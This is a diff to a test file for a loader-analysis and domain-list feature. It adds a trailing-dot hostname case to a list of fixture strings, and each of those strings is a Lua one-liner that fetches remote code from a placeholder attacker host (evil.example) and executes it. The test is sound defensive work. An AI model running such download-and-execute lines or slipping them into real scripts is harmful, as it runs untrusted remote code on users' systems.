@@ -157,6 +157,8 @@ describe.each(dialects)('loader analysis and domain lists on %s', (dialect) => {
       'loadstring(game:HttpGet("https://evil.example/hub.lua"))()',
       'loadstring(game:HttpGet("https://cdn.EVIL.example/hub.lua"))()',
       'local base = "https://www.evil.example/"\nloadstring(game:HttpGet(base .. "x.lua"))()',
+      // A final dot names the same host.
+      'loadstring(game:HttpGet("https://evil.example./hub.lua"))()',
     ];
     for (const loadstring of loaders) {
       const before = await snapshot(ctx);
